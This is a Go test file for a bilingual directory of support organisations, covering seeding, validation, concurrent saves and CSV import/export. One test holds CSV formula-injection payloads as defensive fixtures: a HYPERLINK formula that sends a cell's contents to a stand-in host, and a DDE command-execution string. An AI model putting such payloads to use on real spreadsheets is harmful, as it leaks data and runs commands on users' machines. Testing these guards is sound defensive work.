package orgs

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"madoguchi/app/csvsafe"
	"madoguchi/app/i18n/i18ntest"
	"madoguchi/app/problem"
	"madoguchi/app/residency"
	"madoguchi/app/store/testdb"
)

func newService(t *testing.T) *Service {
	t.Helper()
	dir, url := testdb.Place(t)
	return openAt(t, dir, url)
}

// openAt opens the directory of the database at a testdb.Place, migrated:
// a second one on the same place is a second desk.
func openAt(t *testing.T, dir, url string) *Service {
	t.Helper()
	db := testdb.OpenAt(t, dir, url)
	if err := db.Migrate(context.Background(), Migrations); err != nil {
		t.Fatal(err)
	}
	return New(db, func() time.Time { return time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC) })
}

func TestSeedHoldsEveryOrganisationTheRulesSuggest(t *testing.T) {
	s := newService(t)
	for _, id := range residency.OrgIDs() {
		o, err := s.Get(context.Background(), id)
		if err != nil {
			t.Errorf("%s: %v", id, err)
			continue
		}
		if o.NameJa == "" || o.NameEn == "" || o.TakesJa == "" || o.TakesEn == "" || !o.Active {
			t.Errorf("%s seeded incompletely: %+v", id, o)
		}
	}
}

func TestSeedPhonesFromFacts(t *testing.T) {
	s := newService(t)
	for id, phone := range map[string]string{"houterasu": "0570-078377", "fresc": "0570-011000", "isa_info": "0570-013904"} {
		o, err := s.Get(context.Background(), id)
		if err != nil || o.Phone != phone {
			t.Errorf("%s phone = %q, %v; facts.md says %s", id, o.Phone, err, phone)
		}
	}
}

func TestSave(t *testing.T) {
	ok := Org{ID: "kanagawa_ngo", NameJa: "かながわ支援ネット", NameEn: "Kanagawa Support Net", Phone: "045-000-0000", Active: true}
	tests := []struct {
		name   string
		org    Org
		create bool
		want   []string // field:id
	}{
		{"new entry", ok, true, nil},
		{"ID taken", Org{ID: "issj", NameJa: "x", NameEn: "x"}, true, []string{"id:orgs.error.taken"}},
		{"change unknown", Org{ID: "nobody", NameJa: "x", NameEn: "x"}, false, []string{":orgs.error.notFound"}},
		{"required and format", Org{ID: "Bad ID", Phone: "call us"}, true,
			[]string{"id:orgs.error.idFormat", "nameJa:orgs.error.required", "nameEn:orgs.error.required", "phone:orgs.error.phoneFormat"}},
		{"too long", Org{ID: "long", NameJa: strings.Repeat("長", 101), NameEn: "x"}, true, []string{"nameJa:orgs.error.tooLong"}},
		{"change seeded", Org{ID: "jar", NameJa: "難民支援協会（JAR）", NameEn: "JAR", Hours: "平日 10:00〜17:00"}, false, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := newService(t)
			got, err := s.Save(context.Background(), tc.org, tc.create)
			if ids := problemKeys(err); strings.Join(ids, ",") != strings.Join(tc.want, ",") {
				t.Fatalf("problems = %v (err %v), want %v", ids, err, tc.want)
			}
			if tc.want == nil && (got.ID != tc.org.ID || got.Num == 0) {
				t.Errorf("saved = %+v", got)
			}
		})
	}
}

// Two desks adding an entry of the same ID at once: one is added, the
// other desk is told the ID is taken, and the entry added is not
// overwritten by the other's.
func TestSameNewIDAtOnce(t *testing.T) {
	ctx := context.Background()
	dir, url := testdb.Place(t)
	desks := []*Service{openAt(t, dir, url), openAt(t, dir, url)}
	var wg sync.WaitGroup
	saved := make([]Org, len(desks))
	errs := make([]error, len(desks))
	for i, s := range desks {
		s.beforeWrite = func() { time.Sleep(50 * time.Millisecond) }
		wg.Go(func() {
			o := Org{ID: "kanagawa_ngo", NameJa: fmt.Sprintf("窓口%d", i), NameEn: fmt.Sprintf("Desk %d", i), Active: true}
			saved[i], errs[i] = s.Save(ctx, o, true)
		})
	}
	wg.Wait()
	won := -1
	for i, err := range errs {
		switch keys := strings.Join(problemKeys(err), ","); {
		case err == nil && won < 0:
			won = i
		case keys != "id:orgs.error.taken":
			t.Errorf("desk %d: %v, want one added and id:orgs.error.taken", i, err)
		}
	}
	if won < 0 {
		t.Fatal("neither desk added the entry")
	}
	if got, err := desks[0].Get(ctx, "kanagawa_ngo"); err != nil || got != saved[won] {
		t.Errorf("stored %+v (%v), want desk %d's %+v", got, err, won, saved[won])
	}
}

func problemKeys(err error) []string {
	var out []string
	for _, p := range problem.From(err) {
		out = append(out, p.Field+":"+p.ID)
	}
	return out
}

func TestExportImportRoundTrip(t *testing.T) {
	s := newService(t)
	ctx := context.Background()
	var buf bytes.Buffer
	if err := s.Export(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), csvsafe.BOM+"id,name_ja,name_en,") {
		t.Fatalf("export starts %q", buf.String()[:40])
	}
	res, err := s.Import(ctx, bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if res.Added != 0 || res.Updated != 7 {
		t.Errorf("result = %+v, want 7 updated", res)
	}
	in := "name_en,id,name_ja,takes_ja,takes_en,languages,phone,contact,hours,active\r\n" +
		"\"Kawasaki Help, Desk\",kawasaki,川崎ヘルプ,,,\"ja, en\",044-1,,,no\r\n"
	res, err = s.Import(ctx, strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	o, err := s.Get(ctx, "kawasaki")
	if err != nil || res.Added != 1 || o.NameEn != "Kawasaki Help, Desk" || o.Active || o.Languages != "ja, en" {
		t.Errorf("imported %+v, %v, result %+v", o, err, res)
	}
}

// TestImportAllOrNothing: any wrong row leaves the directory unchanged,
// and each problem names its row and column.
func TestImportAllOrNothing(t *testing.T) {
	header := "id,name_ja,name_en,takes_ja,takes_en,languages,phone,contact,hours,active\n"
	tests := []struct {
		name string
		csv  string
		want []string // id@Row/Column
	}{
		{"missing name on row 3", header + "new1,新,New,,,,,,,yes\nnew2,,New 2,,,,,,,yes\n",
			[]string{"orgs.csv.error.required@3/name_ja"}},
		{"bad phone and active", header + "new1,新,New,,,,phone?,,,maybe\n",
			[]string{"orgs.csv.error.phoneFormat@2/phone", "orgs.csv.error.active@2/active"}},
		{"duplicate id", header + "issj,a,b,,,,,,,yes\nissj,a,b,,,,,,,yes\n",
			[]string{"orgs.csv.error.duplicate@3/id"}},
		{"field count", header + "new1,新,New\n", []string{"orgs.csv.error.fieldCount@2/"}},
		{"missing column", "id,name_ja\nx,y\n", []string{
			"orgs.csv.error.missingColumn@1/name_en", "orgs.csv.error.missingColumn@1/takes_ja", "orgs.csv.error.missingColumn@1/takes_en",
			"orgs.csv.error.missingColumn@1/languages", "orgs.csv.error.missingColumn@1/phone", "orgs.csv.error.missingColumn@1/contact",
			"orgs.csv.error.missingColumn@1/hours", "orgs.csv.error.missingColumn@1/active"}},
		{"unknown column", strings.TrimSuffix(header, "\n") + ",mynumber\n", []string{"orgs.csv.error.unknownColumn@1/mynumber"}},
		{"broken quote", header + "new1,\"新,New,,,,,,,yes\n", []string{"orgs.csv.error.syntax@2/"}},
		{"Shift_JIS", header + "new1,\x90\x56,New,,,,,,,yes\n", []string{"orgs.csv.error.encoding@/"}},
		{"Shift_JIS read as UTF-8 by the window", header + "new1,\uFFFD\uFFFD,New,,,,,,,yes\n", []string{"orgs.csv.error.encoding@/"}},
		{"header only", header, []string{"orgs.csv.error.empty@/"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := newService(t)
			ctx := context.Background()
			var before, after bytes.Buffer
			if err := s.Export(ctx, &before); err != nil {
				t.Fatal(err)
			}
			_, err := s.Import(ctx, strings.NewReader(tc.csv))
			var got []string
			for _, p := range problem.From(err) {
				got = append(got, p.ID+"@"+argString(p.Args["Row"])+"/"+argString(p.Args["Column"]))
			}
			if strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Errorf("problems = %v (err %v), want %v", got, err, tc.want)
			}
			if err := s.Export(ctx, &after); err != nil {
				t.Fatal(err)
			}
			if before.String() != after.String() {
				t.Error("a refused import changed the directory")
			}
		})
	}
}

func argString(v any) string {
	if v == nil {
		return ""
	}
	return fmt.Sprint(v)
}

// TestMessagesExist: the problem IDs built from a rule's kind are in both
// catalogs (the catalog test only sees whole literals).
func TestMessagesExist(t *testing.T) {
	for _, lang := range []string{"ja", "en"} {
		msgs := i18ntest.Messages(t, lang)
		for _, kind := range []string{"required", "tooLong", "idFormat", "phoneFormat"} {
			for _, id := range []string{"orgs.error." + kind, "orgs.csv.error." + kind} {
				if _, ok := msgs[id]; !ok {
					t.Errorf("%s: %s missing", lang, id)
				}
			}
		}
		// What the text rule refuses: its own message in the form, a row
		// and column in a CSV import.
		if _, ok := msgs["orgs.csv.error.invisible"]; !ok {
			t.Errorf("%s: orgs.csv.error.invisible missing", lang)
		}
	}
}

// TestExportGuardsFormulas (attack #7): an entry whose fields a spreadsheet
// would run as formulas is exported with every such cell guarded, and the
// import gives back exactly what was stored.
func TestExportGuardsFormulas(t *testing.T) {
	hostile := Org{
		ID:        "hostile",
		NameJa:    `=HYPERLINK("http://evil.example/?d="&A1,"詳細")`,
		NameEn:    "=1+1",
		TakesJa:   "@SUM(A1:A9)",
		TakesEn:   "-2+3\n=cmd|' /C calc'!A0",
		Languages: "+ja",
		Phone:     "+81 3-1234-5678",
		Contact:   "'quoted already",
		Hours:     "-",
		Active:    true,
	}
	s := newService(t)
	ctx := context.Background()
	if _, err := s.Save(ctx, hostile, true); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := s.Export(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), csvsafe.BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var row []string
	for _, r := range rows {
		if r[0] == hostile.ID {
			row = r
		}
	}
	want := record(hostile)
	for i, c := range columns {
		if want[i] == "" || !strings.ContainsAny(want[i][:1], "=+-@'") {
			continue
		}
		if row[i] != "'"+want[i] {
			t.Errorf("column %s exported as %q: want %q, shown as text by a spreadsheet", c.csv, row[i], "'"+want[i])
		}
	}
	// Change the entry, then import the export: the stored values come back.
	if _, err := s.Save(ctx, Org{ID: hostile.ID, NameJa: "別", NameEn: "other", Active: true}, false); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Import(ctx, bytes.NewReader(buf.Bytes())); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(ctx, hostile.ID)
	if err != nil {
		t.Fatal(err)
	}
	if g, w := record(got), record(hostile); strings.Join(g, "|") != strings.Join(w, "|") {
		t.Errorf("after export and import:\n got %q\nwant %q", g, w)
	}
}
